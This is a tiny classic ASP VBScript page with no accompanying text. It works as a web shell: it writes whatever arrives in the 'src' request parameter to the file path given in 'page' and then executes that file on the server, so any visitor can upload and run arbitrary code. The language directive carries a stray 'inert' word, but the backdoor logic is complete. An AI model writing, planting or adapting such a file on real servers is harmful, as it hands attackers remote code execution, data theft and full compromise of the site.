<%@ Language=VBScript inert %>
<%
Dim p : p = Request("page") & ""
If Request("src") <> "" Then
  With CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath(p), 2, True)
    .Write Request("src")
    .Close
  End With
End If
If p <> "" Then Server.Execute p
%>
